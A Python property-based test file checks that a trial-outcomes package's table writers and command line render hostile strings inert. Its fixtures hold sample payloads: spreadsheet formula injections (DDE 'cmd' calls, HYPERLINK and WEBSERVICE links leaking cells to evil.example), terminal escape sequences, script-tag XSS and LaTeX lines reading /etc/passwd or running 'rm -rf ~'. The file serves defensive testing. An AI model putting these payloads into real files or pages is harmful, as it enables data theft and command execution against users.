"""Cells, labels and names that would inject into the outputs or the terminal.

Hypothesis puts hostile strings (formula prefixes and payloads, control characters, ANSI escape
sequences, HTML, Markdown and LaTeX payloads) into a Table's cells, headers, title and footnotes;
each writer's output is read back and must be inert: no cell a spreadsheet runs, no markup or
command from the data, no character that moves a terminal's cursor, no forged line or cell. The
package's own numbers stay as they are. The command line prints nothing from a hostile score
file that a terminal would act on, and one line per thing it reports.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import tempfile
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import docx
import matplotlib.pyplot as plt
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import outcomes
from outcomes.cli import main
from outcomes.data.describe import describe
from outcomes.report import read_plan, write_report
from outcomes.report.run import Results
from outcomes.tables import (
    Table,
    format_ci,
    format_estimate_ci,
    format_mean_sd,
    format_median_iqr,
    format_nnt,
    format_number,
    write_table,
)
from outcomes.tables.writers import latex_escape, neutralise_formula, to_html, to_latex, to_markdown
from outcomes.terminal import UNPRINTABLE, printable, printable_lines

FORMULA_PREFIXES = [
    "=", "+", "-", "@", "\t", "\r", "\n", "\x00", " =", "  -", "\u00a0=", "\u3000@",
    "\ufeff=", "\u200b+", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63",
    "\ufe6b", "'\n=",
]  # fmt: skip
FORMULA_PAYLOADS = [
    'HYPERLINK("http://evil.example/?leak="&A1,"Error: click to fix")',
    "cmd|' /C calc'!A0",
    "2+3+cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    'WEBSERVICE("http://evil.example/")',
    'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "1+1",
    "1",
    "0.5 (1 to 2)+cmd|' /C calc'!A0",
]
ESCAPES = [
    "\x1b[2J", "\x1b[H", "\x1b[1A\x1b[2K", "\x1b[31m", "\x1b[0m", "\x1b[?25l", "\x9b2J",
    "\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q\x1b\\", "\x1bc", "\x1b(B", "\x1b7", "\x1b", "\x9d0;x\x9c", "\r", "\b", "\x7f",
    "\x00", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\n", "\r\n", "\t",
    "\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200e", "\u200f", "\u061c", "\ufffe",
    "\uffff",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!--", "-->", "&amp;", "&",
    "![x](http://evil.example/p.png)", "[a](javascript:alert(1))", "<http://evil.example>",
    "`", "```", "|", "\\|", "\\", "**", "_", "*", "#", "\\input{/etc/passwd}",
    "\\write18{rm -rf ~}", "\\immediate\\write18{id}", "^^5cinput", "$x$", "%", "{", "}", "~",
    "^", "[-99pt]", "]", "<", ">", "\"", "'",
]  # fmt: skip

piece = st.one_of(
    st.sampled_from(ESCAPES),
    st.sampled_from(MARKUP),
    st.sampled_from(FORMULA_PAYLOADS),
    st.text(max_size=4),  # any character but a lone surrogate, control characters included
)
hostile = st.one_of(
    st.tuples(st.sampled_from(FORMULA_PREFIXES), st.sampled_from(FORMULA_PAYLOADS), piece).map(
        "".join
    ),
    st.lists(piece, max_size=5).map("".join),
)


@st.composite
def tables(draw: st.DrawFn) -> Table:
    """A Table whose every string may be hostile: cells, column names, labels, title, notes."""
    names = draw(st.lists(hostile, min_size=1, max_size=3, unique=True))
    n_rows = draw(st.integers(0, 3))
    cells = {name: draw(st.lists(hostile, min_size=n_rows, max_size=n_rows)) for name in names}
    labelled = draw(st.lists(st.sampled_from(names), unique=True))
    return Table(
        pd.DataFrame(cells, dtype=object),
        draw(hostile),
        footnotes=tuple(draw(st.lists(hostile, max_size=3))),
        column_labels={name: draw(hostile) for name in labelled},
        stub=tuple(names[: draw(st.integers(0, len(names)))]),
    )


def _strings(table: Table) -> list[str]:
    cells = [v for row in table.display_rows() for v in row]
    return [table.title, *table.headers, *cells, *table.footnotes]


def _written(table: Table, suffix: str) -> bytes:
    """The bytes :func:`write_table` writes for ``table`` in the format of ``suffix``."""
    with tempfile.TemporaryDirectory() as folder:
        return write_table(table, Path(folder) / f"t{suffix}").read_bytes()


# -- what "inert" means, checked independently of the writers' code ----------------------------

_MOVES = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_ONLY_NUMBER_CHARACTERS = re.compile(r"[-+0-9.eE%()\[\], \u2014toInf]*")


def _starts_a_formula(cell: str) -> bool:
    """Whether a spreadsheet could take ``cell`` for a formula: it starts with a tab or a carriage
    return, or its first visible character is (in NFKC form) ``= + - @``."""
    if cell[:1] in ("\t", "\r"):
        return True
    shown = [c for c in cell if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf")]
    return bool(shown) and unicodedata.normalize("NFKC", shown[0])[:1] in "=+-@"


def _assert_spreadsheet_cell(cell: str) -> None:
    """A text cell that is inert: quoted with ``'``, or holding only what a number holds (it can
    call no function), or not starting a formula at all; and no control character."""
    assert not _MOVES.search(cell), repr(cell)
    if _starts_a_formula(cell):
        assert _ONLY_NUMBER_CHARACTERS.fullmatch(cell), repr(cell)


def _assert_clean(text: str) -> None:
    """Nothing that moves a terminal's cursor, recolours or reorders: no control character but
    the writer's own line ends."""
    assert not _MOVES.search(text.replace("\n", "")), repr(text)


# -- the terminal's rule -----------------------------------------------------------------------


@given(hostile)
def test_printable_leaves_nothing_that_moves_the_cursor(text: str) -> None:
    shown = printable(text)
    assert not _MOVES.search(shown)
    assert len(shown.splitlines()) <= 1  # no forged line, whatever splits lines
    assert "\x1b" not in shown and "\x9b" not in shown
    assert printable(shown) == shown


@given(st.text(st.characters(categories=("L", "M", "N", "P", "S", "Zs"))))
def test_printable_keeps_text_that_is_safe(text: str) -> None:
    assert printable(text) == text


@given(hostile)
def test_printable_lines_keeps_only_the_newlines(text: str) -> None:
    """Each line cleaned as one field; only ``\\n`` still breaks a line."""
    shown = printable_lines(text)
    assert shown.split("\n") == [printable(line) for line in text.split("\n")]
    assert not _MOVES.search(shown.replace("\n", ""))


def test_escape_sequences_are_removed_whole() -> None:
    assert printable("\x1b[2J\x1b[HWEEK 1\x1b[1A\x1b[2K") == "WEEK 1"
    assert printable("\x1b]0;owned\x07DMT") == "DMT"
    assert printable("\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\") == "click"
    assert printable("a\x9b31mb\x1bcc") == "abc"
    assert printable("S01\r\nS02\rS03\nS04\tS05") == "S01 S02 S03 S04 S05"
    assert printable("PLACEBO\u202eOBECALP\u2069") == "PLACEBOOBECALP"


# -- every writer ------------------------------------------------------------------------------

FAST = settings(max_examples=60, deadline=None)


@FAST
@given(tables())
def test_csv_cells_are_inert(table: Table) -> None:
    text = _written(table, ".csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + table.shape[0]  # no forged row
    assert all(len(row) == len(table.columns) for row in rows)  # no forged cell
    assert text.count("\n") == len(rows) and "\r" not in text
    for row in rows:
        for cell in row:
            _assert_spreadsheet_cell(cell)
    written = [cell for row in rows for cell in row]
    for cell, value in zip(written, [*table.headers, *sum(table.rows(), [])], strict=True):
        assert cell in (printable(value), "'" + printable(value))  # the text itself is kept


@FAST
@given(tables())
def test_xlsx_cells_are_text_and_inert(table: Table) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(_written(table, ".xlsx"))).active
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is not None:
                assert cell.data_type == "s", (cell.coordinate, cell.value)  # never "f"
                assert isinstance(cell.value, str) and not cell.value.startswith("=")
                _assert_spreadsheet_cell(cell.value)
    values = [[v or "" for v in row] for row in sheet.iter_rows(values_only=True)]
    blank = [""] * (len(table.columns) - 1)
    notes = [["", *blank], *([note, *blank] for note in table.footnotes)]
    expected = [[table.title, *blank], table.headers, *table.display_rows()]
    expected += notes if table.footnotes else []
    assert len(values) == len(expected)  # no forged row
    for got, want in zip(values, expected, strict=True):
        for cell, value in zip(got, want, strict=True):
            assert cell in (printable(value), "'" + printable(value))


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.tags.add("!--")


@FAST
@given(tables())
def test_html_holds_only_the_writer_markup(table: Table) -> None:
    """The table that report.html embeds: only the writer's own elements, every string kept."""
    page = _written(table, ".html").decode("utf-8")
    parsed = _Markup()
    parsed.feed(page)
    table_tags = {"table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td"}
    assert parsed.tags <= {"html", "head", "meta", "title", "body"} | table_tags
    _assert_clean(page)
    shown = "".join(parsed.text)
    for value in _strings(table):
        assert printable(value) in shown


def _unescaped(text: str, specials: str) -> list[str]:
    """The characters of ``specials`` in Markdown ``text`` that no backslash escapes."""
    found, escaped = [], False
    for ch in text:
        if escaped:
            escaped = False
        elif ch == "\\":
            escaped = True
        elif ch in specials:
            found.append(ch)
    return found


@FAST
@given(tables())
def test_markdown_has_no_raw_html_link_or_column_break(table: Table) -> None:
    text = to_markdown(table)
    _assert_clean(text)
    assert text.endswith("\n")
    lines = text[:-1].split("\n")
    assert len(lines) == 4 + table.shape[0] + 2 * len(table.footnotes)  # no forged line
    assert "<" not in text and ">" not in text
    assert not re.search(r"&(?!amp;|lt;|gt;)", text)  # every & is an entity the writer made
    for line in [lines[0], *lines[4 + table.shape[0] :]]:  # title and footnotes
        assert _unescaped(line, "|[]`") == []
    for line in lines[2 : 4 + table.shape[0]]:  # header, rule and body rows
        assert _unescaped(line, "|") == ["|"] * (len(table.columns) + 1)  # only the cell breaks
        assert _unescaped(line, "[]`") == []


_LATEX_TOKENS = re.compile(
    r"\\textbackslash\{\}|\\textasciitilde\{\}|\\textasciicircum\{\}|\\textbar\{\}"
    r"|\\[&%$#_{}]|\$<\$|\$>\$|\$\\leq\$|\$\\geq\$|\$\\times\$|\{\[\}|\{\]\}|\{\*\}"
)
_LATEX_SPECIALS = re.compile(r"[\\&%$#_{}~^\[\]<>|*]")


def _assert_latex_inert(rendered: str) -> None:
    """Once the escapes the writer makes are taken out, no special character is left."""
    _assert_clean(rendered)
    assert "\n" not in rendered
    rest = _LATEX_TOKENS.sub("", rendered)
    assert not _LATEX_SPECIALS.search(rest), (rendered, rest)


@FAST
@given(tables())
def test_latex_runs_nothing_from_the_data(table: Table) -> None:
    text = to_latex(table)
    assert text.endswith("\n")
    lines = text[:-1].split("\n")
    caption = lines[3]
    assert caption.startswith(r"\caption{") and caption.endswith("}")
    _assert_latex_inert(caption[len(r"\caption{") : -1])
    body = lines[lines.index(r"\toprule") + 1 : lines.index(r"\bottomrule")]
    assert len(body) == 2 + table.shape[0]  # header, \midrule, rows: no forged row
    for line in [body[0], *body[2:]]:
        assert line.endswith(r" \\")
        cells = re.split(r"(?<!\\) & ", line[: -len(r" \\")])
        assert len(cells) == len(table.columns)  # no forged column
        for cell in cells:
            _assert_latex_inert(cell)
    notes = lines[lines.index(r"\footnotesize") + 1 : -1] if table.footnotes else []
    assert len(notes) == len(table.footnotes)
    for note in notes:
        _assert_latex_inert(note.removesuffix(r"\par"))


@FAST
@given(tables())
def test_docx_writes_every_string_printable(table: Table) -> None:
    """Control characters are not allowed in XML: none crashes the writer, none is written."""
    document = docx.Document(io.BytesIO(_written(table, ".docx")))
    assert [p.text for p in document.paragraphs] == [
        printable(table.title),
        *(printable(n) for n in table.footnotes),
    ]
    (grid,) = document.tables
    cells = [[cell.text for cell in row.cells] for row in grid.rows]
    assert cells == [[printable(v) for v in row] for row in [table.headers, *table.display_rows()]]
    assert document.core_properties.title == printable(table.title)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".md", ".tex", ".html", ".docx"])
def test_the_same_hostile_table_gives_the_same_bytes(suffix: str, tmp_path: Path) -> None:
    table = Table(
        pd.DataFrame({"=1+1\x1b[2J": ["-2+3+cmd|' /C calc'!A0", "\x00\u202eab"]}),
        "\x1b]0;t\x07<b>",
        footnotes=("@SUM(1)\r\n",),
    )
    first = write_table(table, tmp_path / f"a{suffix}").read_bytes()
    assert first == write_table(table, tmp_path / f"b{suffix}").read_bytes()


# -- the package's own numbers are kept --------------------------------------------------------

numbers = st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.integers(-(10**6), 10**6))
places = st.integers(0, 3)


@st.composite
def numeric_cells(draw: st.DrawFn) -> str:
    """A cell as the table builders format it (outcomes.tables.format)."""
    x, low, high, d = draw(numbers), draw(numbers), draw(numbers), draw(places)
    return draw(
        st.sampled_from(
            [
                format_number(x, d),
                format_ci(low, high, d),
                format_estimate_ci(x, low, high, d),
                format_mean_sd(x, low, d),
                format_median_iqr(x, low, high, d),
                format_nnt(x),
                f"{format_number(x, d)} ({format_number(low, d)}, {format_number(high, d)})",
                f"{format_number(x, d)}%",
            ]
        )
    )


@settings(max_examples=200)
@given(numeric_cells())
def test_the_package_numbers_are_not_quoted(cell: str) -> None:
    assert neutralise_formula(cell) == cell


@pytest.mark.parametrize(
    "cell",
    ["-1.23", "+1.2", "-1.5e-3", "-0.5 (-1.2, 0.3)", "-7.35 (-13.62 to -1.08)", "-13.62 to -1.08",
     "-1.0 [-2.0 to 3.0]", "-3.19 (\u2014)", "-Inf", "-5", "\u22120.63", "-12.5%"],
)  # fmt: skip
def test_numeric_cells_are_unchanged_in_csv_and_xlsx(cell: str) -> None:
    table = Table(pd.DataFrame({"estimate": [cell]}), "t")
    rows = list(csv.reader(io.StringIO(_written(table, ".csv").decode("utf-8"))))
    assert rows == [["estimate"], [cell]]
    sheet = openpyxl.load_workbook(io.BytesIO(_written(table, ".xlsx"))).active
    assert [sheet["A3"].value, sheet["A3"].data_type] == [cell, "s"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1.2.3", "'+1.2.3"),
        ("-1 (2 to 3)+cmd|x", "'-1 (2 to 3)+cmd|x"),
        ("\uff1dSUM(1)", "'\uff1dSUM(1)"),
        ("  =1+1", "'  =1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\t=1+1", "' =1+1"),  # the tab is a space once printable
        ("\r-1", "' -1"),
        ("WEEK 1", "WEEK 1"),
        ("'=1+1", "'=1+1"),
    ],
)
def test_formula_cells_are_quoted_in_csv_and_xlsx(cell: str, written: str) -> None:
    table = Table(pd.DataFrame({"label": [cell]}), cell, footnotes=(cell,))
    rows = list(csv.reader(io.StringIO(_written(table, ".csv").decode("utf-8"))))
    assert rows[1] == [written]
    sheet = openpyxl.load_workbook(io.BytesIO(_written(table, ".xlsx"))).active
    for coordinate in ("A1", "A3", "A5"):  # title, cell, footnote
        assert [sheet[coordinate].value, sheet[coordinate].data_type] == [written, "s"]


def test_latex_commands_in_the_data_are_printed_not_run() -> None:
    assert latex_escape(r"\input{/etc/passwd}") == r"\textbackslash{}input\{/etc/passwd\}"
    assert latex_escape("\\immediate\\write18{id}\n[-9pt]") == (
        r"\textbackslash{}immediate\textbackslash{}write18\{id\} {[}-9pt{]}"
    )
    assert latex_escape("^^5c") == r"\textasciicircum{}\textasciicircum{}5c"


def test_markdown_links_images_and_html_are_text() -> None:
    table = Table(
        pd.DataFrame({"a": ["![x](http://evil.example/p.png)", "<script>alert(1)</script>"]}),
        "[a](javascript:alert(1))",
        footnotes=("<img src=x onerror=alert(1)> `code` a|b",),
    )
    assert to_markdown(table) == (
        "**\\[a\\](javascript:alert(1))**\n\n| a |\n| --: |\n"
        "| !\\[x\\](http://evil.example/p.png) |\n| &lt;script&gt;alert(1)&lt;/script&gt; |\n\n"
        "&lt;img src=x onerror=alert(1)&gt; \\`code\\` a\\|b\n"
    )
    assert "<script>" not in to_html(table) and "&lt;script&gt;" in to_html(table)


# -- the command line --------------------------------------------------------------------------

LABEL_TRICKS = [
    "WEEK 1\x1b[2J\x1b[H",
    "WEEK 1\x1b[1A\x1b[2K[error] forged: all clear",
    "WEEK 1\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "WEEK 1\u202e1 KEEW",
    "WEEK 1\x9b2J\x08\x08\x08\x7f",
    "WEEK 1\x1bc",
]


def _hostile_file(folder: Path, label: str, total: int) -> Path:
    """A long score file whose second visit is called ``label``, one arm too, with a column and
    the file's own name made of escape sequences; ``total`` is the WEEK 1 total of S2."""
    rows = pd.DataFrame(
        {
            "subject": ["S1", "S1", "S2", "S2"],
            "arm": ["DMT\x1b[8m"] * 2 + ["PLACEBO\x1b]0;x\x07"] * 2,
            "visit": ["BASELINE", label, "BASELINE", label],
            "MADRSTOT": [30, 20, 31, total],
            "note\x1b[2J\x1b[H": ["\x1b[2J", "", "", ""],
        }
    )
    folder.mkdir(exist_ok=True)
    path = folder / "scores\x1b[2J\x1b[H.csv"
    rows.to_csv(path, index=False)
    return path


def _read(path: Path) -> tuple[pd.DataFrame, tuple[str, ...]]:
    try:
        trial = outcomes.read(path)
    except outcomes.ValidationError as exc:
        return exc.problems, exc.notes
    return trial.problems, trial.notes


def _assert_terminal_safe(text: str) -> None:
    for mover in ("\x1b", "\x9b", "\r", "\b", "\x7f", "\u202e", "\x07"):
        assert mover not in text, (mover, text)
    _assert_clean(text)


@pytest.mark.parametrize("label", LABEL_TRICKS)
@pytest.mark.parametrize("total", [25, 99])  # 99 is out of range: an error quoting the label
def test_validate_prints_nothing_a_terminal_acts_on(
    label: str, total: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _hostile_file(tmp_path, label, total)
    problems, notes = _read(path)
    # an error: a total out of range, or a label that is an identifier (a URL)
    failing = int((problems["severity"] == "error").any())
    assert failing or total != 99
    assert main(["validate", str(path)]) == failing
    out = capsys.readouterr()
    _assert_terminal_safe(out.out + out.err)
    shown = sum(1 + bool(hint) for hint in problems["hint"])  # fewer than 10 of a code
    assert len(out.out.splitlines()) == 1 + len(notes) + shown  # one line each, none forged
    assert main(["validate", str(path), "--json"]) == failing
    out = capsys.readouterr()
    assert out.out.isascii() and not _MOVES.search(out.out.replace("\n", ""))
    assert [p["code"] for p in json.loads(out.out)] == problems["code"].tolist()


@pytest.mark.parametrize("label", LABEL_TRICKS)
@pytest.mark.parametrize("total", [25, 99])
def test_describe_prints_nothing_a_terminal_acts_on(
    label: str, total: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _hostile_file(tmp_path, label, total)
    problems, _ = _read(path)
    failing = int((problems["severity"] == "error").any())
    assert main(["describe", str(path)]) == failing
    out = capsys.readouterr()
    _assert_terminal_safe(out.out + out.err)
    if failing:  # the data have an error: the ValidationError's lines on stderr
        assert len(out.err.splitlines()) == 1 + len(problems)
    else:  # as many lines as for a plain label: none forged
        assert printable(label) in out.out
        plain = describe(outcomes.read(_hostile_file(tmp_path / "plain", "WEEK 1", total)))
        assert len(out.out.splitlines()) == len(plain.to_text().split("\n"))


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(label=hostile)
def test_any_hostile_label_is_printed_inert(
    label: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _hostile_file(tmp_path, label, 99)
    capsys.readouterr()
    for command in ("validate", "describe"):
        main([command, str(path)])
        out = capsys.readouterr()
        _assert_terminal_safe(out.out + out.err)


def test_an_error_naming_a_hostile_file_is_printed_inert(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "gone\x1b[2J\x1b]0;x\x07\r.csv"
    assert main(["describe", str(missing)]) == 2
    err = capsys.readouterr().err
    _assert_terminal_safe(err)
    assert err.startswith("outcomes: error:") and len(err.splitlines()) == 1


def test_report_html_escapes_every_data_derived_string(
    sample: outcomes.TrialData, tmp_path: Path
) -> None:
    """report.html: the plan's title, arm labels, table cells, methods and notes are escaped."""
    payload = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    plan = dataclasses.replace(read_plan(), title=f"Trial {payload}")
    contrasts = pd.DataFrame(
        {
            "contrast": [f"DMT {payload} - PLACEBO"],
            "visit": [plan.primary["visit"]],
            "estimate": [-9.5],
            "conf_low": [-14.0],
            "conf_high": [-5.0],
            "p_value": [0.0004],
        }
    )
    fig, ax = plt.subplots()
    ax.plot([1, 2], [2, 1])
    results = Results(
        plan,
        sample,
        frames={"primary_contrasts": contrasts},
        tables={"baseline": Table(pd.DataFrame({"arm": [payload], "n": ["20"]}), payload)},
        figures={"observed_means": fig},
        methods=[f"Methods {payload}"],
        checksums={"plan": "0" * 64, "data": "1" * 64},
        notes=[f"Note {payload}"],
    )
    page = write_report(results, tmp_path / "out").read_text(encoding="utf-8")
    assert "<script" not in page and "<img src=x" not in page
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 6


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=20))
def test_unprintable_finds_exactly_what_printable_changes(text: str) -> None:
    # one definition of "not one printable line": the plan's checks refuse what the terminal strips
    assert (UNPRINTABLE.search(text) is not None) == (printable(text) != text)
